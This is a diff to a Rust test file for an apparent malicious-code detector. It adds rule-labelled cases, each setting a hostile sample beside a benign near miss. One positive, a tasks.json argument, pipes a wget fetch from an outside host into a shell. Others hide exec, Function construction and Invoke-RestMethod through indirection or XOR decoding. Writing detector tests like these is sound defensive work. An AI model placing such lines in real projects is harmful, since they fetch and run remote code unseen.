@@ -2745,6 +2745,44 @@ fn every_rule_has_a_positive_case_and_a_near_miss() {
 /// Behaviours added to (or taken from) existing rows by held-out batches 6
 /// and 7, each with a near miss: (rule, file, positive, near miss).
 const WIDENED: &[(&str, &str, &str, &str)] = &[
+    // Batch 67 (redteam67): indirection and argument lists, each with the
+    // honest neighbour as its near miss.
+    (
+        "download-execute",
+        ".vscode/tasks.json",
+        r#"      "args": ["-c", "$(wget -qO- http://toolchain-sync.devkit-cdn.com/s)"],"#,
+        r#"      "args": ["-c", "npm ci --no-audit"],"#,
+    ),
+    (
+        "dynamic-eval",
+        "scripts/rules.py",
+        r#"run = getattr(importlib.import_module("builtins"), "exec")"#,
+        r#"run = getattr(importlib.import_module(name), "execute")"#,
+    ),
+    (
+        "dynamic-eval",
+        "scripts/lint.mjs",
+        r#"const build = Reflect.construct(Function, ["ctx", body]);"#,
+        r#"const when = Reflect.construct(Date, [2026, 0, 1]);"#,
+    ),
+    (
+        "network-send",
+        "scripts/release.rb",
+        "poster = Net::HTTP.method(:post_form)",
+        "getter = Net::HTTP.method(:get)",
+    ),
+    (
+        "string-assembly",
+        "scripts/cleanup.ps1",
+        "$get = & (gcm ('{0}-{1}' -f 'Invoke','RestMethod'))",
+        "$name = '{0}-{1}.log' -f $env:COMPUTERNAME, $day",
+    ),
+    (
+        "decode",
+        "scripts/summary.pl",
+        r#"my $x = join "", map { chr($b[$_] ^ ord(substr($k, $_ % 2, 1))) } 0 .. $#b;"#,
+        r#"my $x = join "", map { chr($b[$_]) } 0 .. $#b;"#,
+    ),
     // Batch 65 (redteam65): widenings by style, each with its near miss.
     (
         "pose-as-system",
